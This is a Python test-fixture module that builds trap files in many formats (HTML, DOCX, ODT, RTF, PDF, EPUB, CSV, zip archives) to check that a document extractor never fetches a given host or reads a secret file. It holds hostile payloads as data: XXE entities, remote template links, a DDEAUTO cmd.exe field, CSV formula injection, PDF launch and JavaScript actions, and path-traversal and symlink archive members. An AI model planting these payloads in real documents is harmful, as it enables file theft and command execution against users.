"""Files of a stranger that want something fetched, opened or run: one of each kind a format has."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pikepdf

from tests.extraction.formats.packed import opendocument, paragraph, word, zipped

#: The words that every file has, so that it is an article or a source.
WORDS = "The harbour bridge opened on Monday, and 62 people crossed it, the mayor said."


def lay(folder: Path, secret: Path, host: str) -> list[Path]:
    """Write the traps into a folder and answer them; `secret` is a file that none may have read,
    `host` a host that none may have called."""
    near, far = secret.as_uri(), f"http://{host}/x"
    made: dict[str, bytes] = {}
    for number, markup in enumerate(_markup(near, far)):
        page = f"<html><head><title>Bridge</title></head><body>{markup}<p>{WORDS}</p></body></html>"
        made[f"page-{number}.html"] = f"<!DOCTYPE html>{page}".encode()
        made[f"page-{number}.mhtml"] = _mhtml(page, far)
        made[f"mail-{number}.eml"] = _mail(page)
        made[f"book-{number}.epub"] = _epub(markup)
        made[f"notes-{number}.md"] = (
            f"# Bridge\n\n{markup}\n\n![x]({far}) [y]({near})\n\n{WORDS}".encode()
        )
    for number, field in enumerate(_fields(near, far)):
        made[f"word-{number}.docx"] = word(paragraph(field) + paragraph(WORDS), links={"r1": far})
    made |= _templates(near, far) | _open_documents(near, far) | _rich_texts(secret, far)
    made |= _pdfs(secret, far) | _records(near, far) | _archives(secret)
    paths = []
    for name, content in made.items():
        (folder / name).write_bytes(content)
        paths.append(folder / name)
    return paths


def _markup(near: str, far: str) -> tuple[str, ...]:
    return (
        f'<img src="{far}"><img src="{near}" srcset="{far} 2x"><picture><source srcset="{far}">'
        "</picture>",
        f'<script src="{far}"></script><script>fetch("{near}")</script>',
        f'<link rel="stylesheet" href="{far}"><style>@import url("{near}"); '
        f'p {{ background: url("{far}") }}</style>',
        f'<iframe src="{near}"></iframe><object data="{far}"></object><embed src="{near}">',
        f'<base href="{far}"><meta http-equiv="refresh" content="0; url={near}">'
        f'<link rel="prefetch" href="{far}"><link rel="dns-prefetch" href="//{far[7:]}">',
        f'<svg><use href="{far}#a"/><image href="{near}"/></svg><video poster="{far}" '
        f'src="{near}"></video>',
        f'<a href="{near}" ping="{far}">here</a><form action="{far}"><input autofocus></form>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{near}"><!ENTITY % p SYSTEM "{far}"> %p;]><p>&e;</p>',
        f'<table background="{far}"><tr><td background="{near}">x</td></tr></table>'
        f'<input type="image" src="{far}">',
        f'<audio src="{far}"><track src="{near}"></audio><link rel="icon" href="{far}">'
        f'<link rel="manifest" href="{near}">',
        f'<script type="application/ld+json">{{"@context": "{far}", "@type": "NewsArticle", '
        f'"image": "{near}", "articleBody": "x"}}</script>',
        f'<?xml-stylesheet href="{near}"?><applet archive="{far}"></applet>'
        f'<frameset><frame src="{near}"></frameset>',
        f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{near}" parse="text"/>',
    )


def _mhtml(page: str, far: str) -> bytes:
    return (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n"
        f"Snapshot-Content-Location: {far}\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n"
        f"Content-Location: {far}\r\n\r\n{page}\r\n--b--\r\n"
    ).encode()


def _mail(page: str) -> bytes:
    return (
        "From: a@example.org\r\nTo: b@example.org\r\nSubject: Bridge\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{page}"
    ).encode()


def _epub(markup: str) -> bytes:
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest>'
        '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
        '<item id="b" href="../../../../etc/passwd" media-type="application/xhtml+xml"/>'
        '</manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>'
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0">'
        '<rootfiles><rootfile full-path="p.opf" media-type="application/oebps-package+xml"/>'
        "</rootfiles></container>"
    )
    page = f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{markup}<p>{WORDS}</p></body></html>"
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": container,
            "p.opf": package,
            "a.xhtml": page,
        }
    )


def _fields(near: str, far: str) -> tuple[str, ...]:
    def field(code: str) -> str:
        return f"<w:fldSimple w:instr='{code}'><w:r><w:t>x</w:t></w:r></w:fldSimple>"

    return (
        field(f'INCLUDETEXT "{near}"'),
        field(f'INCLUDEPICTURE "{far}" \\d'),
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        field(f'HYPERLINK "{near}"'),
        '<w:r><w:altChunk r:id="r1"/></w:r>',
        '<w:hyperlink r:id="r1"><w:r><w:t>here</w:t></w:r></w:hyperlink>',
        '<w:r><w:pict><v:shape><v:imagedata r:id="r1"/></v:shape></w:pict></w:r>',
        '<w:r><w:object><v:shape r:href="r1"/></w:object></w:r>',
    )


def _templates(near: str, far: str) -> dict[str, bytes]:
    """Word files that name a template elsewhere, or an entity."""
    made = {}
    for number, target in enumerate((near, far)):
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        with zipfile.ZipFile(out := io.BytesIO(word(paragraph(WORDS))), "a") as archive:
            archive.writestr(
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="t" Type="{kind}/attachedTemplate" '
                f'Target="{target}" TargetMode="External"/></Relationships>',
            )
        made[f"template-{number}.docx"] = out.getvalue()
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
        body = "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
        made[f"entity-{number}.docx"] = zipped(
            {
                "word/document.xml": f"{entity}{body}<w:body><w:p><w:r><w:t>&e; {WORDS}</w:t>"
                "</w:r></w:p></w:body></w:document>"
            }
        )
    return made


def _open_documents(near: str, far: str) -> dict[str, bytes]:
    bodies = [
        f'<draw:image xlink:href="{target}" xlink:actuate="onLoad"/>'
        f'<text:section><text:section-source xlink:href="{target}"/></text:section>'
        for target in (near, far)
    ]
    bodies += [f'<text:a xlink:href="{target}">here</text:a>' for target in (near, far)]
    bodies += ['<draw:image xlink:href="../../../../../../etc/passwd"/>']
    return {
        f"open-{number}.odt": opendocument(f"{body}<text:p>{WORDS}</text:p>")
        for number, body in enumerate(bodies)
    }


def _rich_texts(secret: Path, far: str) -> dict[str, bytes]:
    inside = (
        rf'{{\field{{\*\fldinst INCLUDETEXT "{secret}"}}{{\fldrslt x}}}}',
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{far}"}}{{\fldrslt x}}}}',
        rf"{{\*\template {far}}}",
        rf"{{\object\objautlink\objupdate{{\*\objdata 0105}}{{\*\objclass {secret}}}}}",
        rf"{{\*\filetbl{{\file {secret}}}}}",
    )
    return {
        f"rich-{number}.rtf": rf"{{\rtf1\ansi {one} {WORDS}\par}}".encode()
        for number, one in enumerate(inside)
    }


def _pdfs(secret: Path, far: str) -> dict[str, bytes]:
    acts = (
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=far),
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=str(secret)),
        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=str(secret), D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f'app.launchURL("{far}")'),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=far),
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=str(secret)),
    )
    made = {}
    for number, act in enumerate(acts):
        with pikepdf.new() as pdf:
            page = pdf.add_blank_page()
            font = pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
            )
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            shown = f"BT /F1 12 Tf 50 700 Td ({WORDS}) Tj ET".encode()
            page.Contents = pdf.make_stream(shown)
            outside = pikepdf.Dictionary(F=str(secret), Length=0)
            page.Resources.XObject = pikepdf.Dictionary(X=pdf.make_stream(b"", outside))
            pdf.Root.OpenAction = act
            pdf.save(out := io.BytesIO())
        made[f"print-{number}.pdf"] = out.getvalue()
    return made


def _records(near: str, far: str) -> dict[str, bytes]:
    """Bibliographies that name files and addresses."""
    csl = [
        {"id": "a", "type": "webpage", "title": WORDS, "URL": near, "abstract": f"{WORDS} {far}"}
    ]
    lines = [{"_id": "a", "title": "t", "text": WORDS, "url": url} for url in (near, far)]
    review = {"@context": far, "@type": "ClaimReview", "url": near, "claimReviewed": WORDS}
    return {
        "a.ris": f"TY  - WEB\nTI  - {WORDS}\nUR  - {far}\nL1  - {near}\nER  - \n".encode(),
        "a.bib": f"@misc{{a, title={{{WORDS}}}, url={{{far}}}, file={{:{near}:PDF}}}}\n"
        f"\\input{{{near}}}\n".encode(),
        "a.csv": f"title,url,text\n{WORDS},{near},{WORDS}\n=cmd|'/k calc'!A0,{far},x\n".encode(),
        "a.json": json.dumps(csl).encode(),
        "b.json": json.dumps(review).encode(),
        "a.jsonl": "\n".join(json.dumps(line) for line in lines).encode(),
    }


def _archives(secret: Path) -> dict[str, bytes]:
    """Archives whose members lie, or lead, outside."""
    link = zipfile.ZipInfo("word/document.xml")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out := io.BytesIO(), "w") as archive:
        archive.writestr(link, str(secret))
    climbing = {f"../../../../../..{secret}": WORDS, "word/document.xml": f"<a>{WORDS}</a>"}
    return {
        "link.docx": out.getvalue(),
        "climbing.docx": zipped(climbing),
        "absolute.odt": zipped({str(secret): WORDS, "content.xml": f"<a>{WORDS}</a>"}),
        "climbing.epub": zipped({"META-INF/container.xml": f"<a>{secret}</a>", "../x": WORDS}),
    }
